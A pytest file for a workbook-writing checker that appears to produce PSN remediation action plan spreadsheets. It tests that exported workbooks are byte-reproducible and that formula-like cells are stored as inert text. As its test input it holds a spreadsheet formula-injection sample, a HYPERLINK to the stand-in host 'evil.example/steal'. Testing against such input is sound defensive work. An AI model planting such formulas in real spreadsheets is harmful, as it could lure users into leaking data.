"""Every workbook checker writes stores evidence text as text and is byte-reproducible."""

from __future__ import annotations

import io

from openpyxl import Workbook, load_workbook

from checker import workbook
from checker.submission import rap

FORMULA = '=HYPERLINK("http://evil.example/steal","click")'


def test_a_cell_that_looks_like_a_formula_is_saved_as_text() -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["title", FORMULA])
    data = workbook.save(book, "2026-11-01")
    cell = load_workbook(io.BytesIO(data)).active["B1"]
    assert (cell.data_type, cell.value) == ("s", FORMULA)


def test_the_same_workbook_gives_the_same_bytes_on_any_day() -> None:
    def build() -> bytes:
        book = Workbook()
        book.active.append(["a", 1])  # type: ignore[union-attr]
        return workbook.save(book, "2026-11-01")

    first, second = build(), build()
    assert first == second
    props = load_workbook(io.BytesIO(first)).properties
    assert (props.created.isoformat(), props.modified.isoformat()) == (
        "2026-11-01T00:00:00", "2026-11-01T00:00:00")


def test_the_psn_rap_workbook_keeps_a_hostile_finding_title_as_text() -> None:
    row = ["ITHC-26-01", FORMULA] + [""] * (len(rap.COLUMNS) - 2)
    data = rap.xlsx_bytes([row], "2026-11-01", "RAP")
    sheet = load_workbook(io.BytesIO(data))["RAP"]
    assert (sheet["B2"].data_type, sheet["B2"].value) == ("s", FORMULA)
